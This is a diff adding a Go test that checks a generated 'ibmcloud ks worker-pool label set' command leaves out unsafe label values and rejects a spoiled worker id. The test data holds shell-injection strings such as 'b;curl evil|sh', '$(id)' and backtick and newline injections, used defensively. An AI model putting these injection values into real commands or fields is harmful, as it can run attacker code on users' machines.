@@ -4,6 +4,8 @@ import (
 	"context"
 	"encoding/json"
 	"slices"
+	"strconv"
+	"strings"
 	"testing"
 	"time"
 
@@ -72,6 +74,35 @@ func TestAPoolThatLosesItsLabelIsStillOurs(t *testing.T) {
 			require.Empty(t, observe(t, before).Unmarked)
 		})
 	}
+}
+
+// TestTheCommandHoldsNoTextForAShell: people paste it. What would not fit is left out, and not cut.
+func TestTheCommandHoldsNoTextForAShell(t *testing.T) {
+	w, p := settled(t, iksserver.VPC, spec(1))
+	id := observe(t, p).ID
+	bare := "ibmcloud ks worker-pool label set --cluster " + clusterID + " --worker-pool " + id + " --label " + ownLabel
+	labels := map[string]string{"example.com/team": "net_1.a-b", "empty": ""}
+	for i, hostile := range []string{"b;curl evil|sh", "$(id)", "`id`", "a b", "a\nid", "'", `"`, "a&b", "a>b", "*", "~", "-x", strings.Repeat("a", 64), "ü", apiKey} {
+		labels["a"+strconv.Itoa(i)], labels[hostile] = hostile, "b"
+	}
+	w.SetPoolLabels(clusterID, providertest.PoolName, labels)
+	got := observe(t, p).Unmarked
+	require.True(t, strings.HasSuffix(got, ": "+bare+" --label empty= --label example.com/team=net_1.a-b"), got)
+	require.Contains(t, got, "(30 of its labels are left out")
+
+	clear(labels)
+	for i := range 100 {
+		labels["key"+strconv.Itoa(100+i)] = "value"
+	}
+	w.SetPoolLabels(clusterID, providertest.PoolName, labels)
+	got = observe(t, p).Unmarked
+	require.Regexp(t, ` of its labels are left out.*( --label key\d{3}=value){15,}$`, got)
+	require.Less(t, len(got), 1000)
+	require.ErrorContains(t, refused(t, p, spec(1), cloud.Conflict), got)
+
+	w.Server.Inject(iksserver.Fault{Method: "GET", Path: "getWorkers$", Spoil: replaced(`"id":"kube-`, `"id":"$(id)kube-`)})
+	_, err := p.Observe(t.Context(), spec(1))
+	require.ErrorContains(t, err, "no id that can be one")
 }
 
 func TestAPoolThatIsListedUnderAnotherNameIsStillOurs(t *testing.T) {
